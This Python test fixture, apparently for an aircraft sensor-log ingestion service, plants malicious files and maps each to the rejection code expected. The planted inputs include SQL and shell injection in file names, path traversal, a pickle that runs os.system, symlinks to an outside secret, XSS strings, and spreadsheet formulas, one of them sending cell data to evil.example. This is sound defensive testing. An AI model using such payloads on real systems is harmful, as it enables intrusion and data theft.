"""Files that mean harm: what lies where in the landing zone, and the reason code it must be turned away with."""

import os
import pickle
from collections.abc import Callable
from pathlib import Path

HEADER = (
    "flight_id,report_time,phase_code,pack,altitude_ft,mach,tat_degc,pt_psia,hx_in_degc,hx_out_degc,ram_door_pct,"
    "pack_flow_lbpm\n"
)
VALUES = ",2024-03-04T08:00:00Z,CR,1,35000,0.8,-25,5.2,180,60,20,100\n"
MESSAGES = "message_time,flight_id,pack,code,text\n"
WORK = "done_on,pack,component,action,finding,reference\n"


class Bomb:
    """Unpickled, it leaves a file."""

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, ("touch pwned",)


def row(flight: str) -> bytes:
    """A report whose flight_id is `flight`."""
    return (HEADER + flight + VALUES).encode()


ACMS = "QQX/Z9/acms/"
FLIGHT = row("Z9_20240304_01")
FILES: dict[str, tuple[str, bytes, str]] = {
    "SQL in an operator": ("A'; drop table files; --/Z9/acms/Z9_20240304_01.csv", FLIGHT, "unexpected_name"),
    "shell in an operator": ("$(touch pwned)/Z9/acms/Z9_20240304_01.csv", FLIGHT, "unexpected_name"),
    "newline in an operator": ("QQX\n/Z9/acms/Z9_20240304_01.csv", FLIGHT, "unexpected_name"),
    "a dot in an operator": ("A.B/Z9/acms/Z9_20240304_01.csv", FLIGHT, "unexpected_name"),
    "SQL in a tail": ("QQX/Z9' or 1=1 --/acms/Z9_20240304_01.csv", FLIGHT, "unexpected_name"),
    "dots in a tail": ("QQX/A..Z/acms/A..Z_20240304_01.csv", row("A..Z_20240304_01"), "unexpected_name"),
    "fullwidth letters in a tail": ("QQX/\uff3a\uff19/acms/Z9_20240304_01.csv", FLIGHT, "unexpected_name"),
    "text that runs backwards": (f"{ACMS}Z9\u202e_20240304_09.csv", row("Z9_20240304_09"), "unexpected_name"),
    "a folder named as a file": (f"{ACMS}Z9_20240304_20.csv/inside.csv", row("Z9_20240304_20"), "unexpected_name"),
    "a script beside the logs": ("QQX/Z9/run.sh", b"#!/bin/sh\ntouch pwned\n", "unexpected_name"),
    "a database beside the logs": ("QQX/Z9/catalog.duckdb", b"DUCK" * 64, "unexpected_name"),
    "a path in flight_id": (f"{ACMS}a.csv", row("../../../../pwned_20240304_01"), "bad_flight_id"),
    "SQL in flight_id": (f"{ACMS}b.csv", row("Z9_20240304_01'; drop table done; --"), "bad_flight_id"),
    "a glob in flight_id": (f"{ACMS}c.csv", row("*_20240304_01"), "bad_flight_id"),
    "another tail's flight_id": (f"{ACMS}d.csv", row("AA_20240304_01"), "flight_id_contradicts_path"),
    "a formula in flight_id": (f"{ACMS}e.csv", row("=cmd|' /C calc'!A0"), "bad_flight_id"),
    "a number of a million digits": (
        f"{ACMS}Z9_20240304_21.csv", row("Z9_20240304_21").replace(b"35000", b"9" * 10**6), "not_a_number"
    ),
    "quotes without end": (f"{ACMS}Z9_20240304_22.csv", row("Z9_20240304_22").replace(b"CR", b'"CR'), "bad_quoting"),
    "NUL bytes": (f"{ACMS}Z9_20240304_23.csv", row("Z9_20240304_23").replace(b"CR", b"C\0R"), "bad_bytes"),
    "a pickle named as Parquet": (f"{ACMS}history_2024-03.parquet", pickle.dumps(Bomb()), "cannot_read_parquet"),
    "a footer that claims four gigabytes": (
        f"{ACMS}history_2024-04.parquet", b"PAR1" + b"\0" * 64 + b"\xff\xff\xff\xffPAR1", "cannot_read_parquet"
    ),
    "an archive named as a report": (f"{ACMS}Z9_20240304_24.csv", b"PK\x03\x04" + bytes(200), "not_text"),
    "a script in a message's code": (
        "QQX/EV-1/messages.csv",
        (MESSAGES + "2024-03-04T09:00:00Z,,1,<script>alert(1)</script>,x\n").encode(),
        "bad_code",
    ),
    "SQL in a work order's component": (
        "QQX/EV-1/maintenance.csv", (WORK + "2024-03-05,1,HX'); drop table x,REPLACED,,W\n").encode(), "bad_code"
    ),
}  # fmt: skip
"""Path, content, and the reason it is turned away with."""

LINKS: dict[str, tuple[str, str, str]] = {
    "a link to a file outside": (f"{ACMS}Z9_20240304_25.csv", "outside/secret.csv", "outside_landing"),
    "a link to a folder outside": ("QQZ", "outside", "outside_landing"),
    "a link to itself": (f"{ACMS}Z9_20240304_26.csv", "landing/QQX/Z9/acms/Z9_20240304_26.csv", "outside_landing"),
}
"""Path, target below the root, and the reason."""
PIPE = f"{ACMS}Z9_20240304_27.csv"
CANARY = "canary-7d1f-do-not-tell"
"""A secret that stands in the environment and must be found nowhere else."""
SCRIPT = '<img src=x onerror="alert(1)"><script>alert(2)</script>'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1)'


def plant(root: Path, landing: Path) -> None:
    """Put everything in its place, and beside the zone a file that must not be read."""
    (root / "outside").mkdir()
    (root / "outside/secret.csv").write_bytes(row("Z9_20240304_25"))
    for path, content, _ in FILES.values():
        (landing / path).parent.mkdir(parents=True, exist_ok=True)
        (landing / path).write_bytes(content)
    for path, target, _ in LINKS.values():
        (landing / path).symlink_to(root / target)
    os.mkfifo(landing / PIPE)
    with open(landing / "QQX/Z9/messages.csv", "a") as log:
        log.write(f'2024-03-04T09:00:00Z,,1,21-52-HXTEMP,"{SCRIPT.replace(chr(34), chr(34) * 2)}"\n')
    with open(landing / "QQX/Z9/maintenance.csv", "a") as log:
        log.write(f'2024-03-05,1,HX,REPLACED,,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n')
